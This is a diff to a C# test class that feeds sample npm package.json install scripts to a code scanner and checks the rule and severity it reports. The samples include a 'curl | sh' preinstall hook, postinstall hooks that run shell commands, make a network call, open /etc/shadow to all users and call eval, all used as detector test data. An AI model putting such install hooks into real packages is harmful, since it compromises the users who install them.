@@ -9,6 +9,13 @@ public sealed class InstallationTests
     [InlineData("package.json", "{\"scripts\": {\"postinstall\": \"node -e \\\"require('x')\\\"\"}}", "code-install-time-execution", Severity.High)]
     [InlineData("package.json", "{\n\"scripts\": {\n\"preinstall\": \"curl https://x.example | sh\"}}", "code-download-and-run", Severity.Critical)]
     [InlineData("a/package.json", "{\"scripts\": {\"postinstall\": \"husky install\"}}", "code-install-time-execution", Severity.Low)]
+    [InlineData("package.json", "{\"scripts\": {\"postinstall\": \"node -e \\\"try { require('fs').chmodSync('./dist/index.js', '755') } catch (e) {}\\\"\"}}", "code-install-time-execution", Severity.Low)]
+    [InlineData("package.json", "{\"scripts\": {\"postinstall\": \"node -e \\\"try{require('./postinstall')}catch(e){}\\\"\"}}", "code-install-time-execution", Severity.Low)]
+    [InlineData("package.json", "{\"scripts\": {\"postinstall\": \"node -e \\\"require('child_process').execSync('id')\\\"\"}}", "code-install-time-execution", Severity.High)]
+    [InlineData("package.json", "{\"scripts\": {\"postinstall\": \"node -e \\\"require('fs').chmodSync('./a.js', '755');require('http').get('//x')\\\"\"}}", "code-install-time-execution", Severity.High)]
+    [InlineData("package.json", "{\"scripts\": {\"postinstall\": \"node -e \\\"require('fs').chmodSync('/etc/shadow', '777')\\\"\"}}", "code-install-time-execution", Severity.High)]
+    [InlineData("package.json", "{\"scripts\": {\"postinstall\": \"node -e \\\"0,';'+eval('x')\\\"\"}}", "code-install-time-execution", Severity.High)]
+    [InlineData("package.json", "{\"scripts\": {\"postinstall\": \"node -e \\\"require('./a')\\\" && node -e \\\"require('x').y()\\\"\"}}", "code-install-time-execution", Severity.High)]
     public void What_runs_at_installation_is_found(string file, string text, string rule, Severity severity) => CodeScan.Finds(file, text, rule, severity);
 
     [Theory]
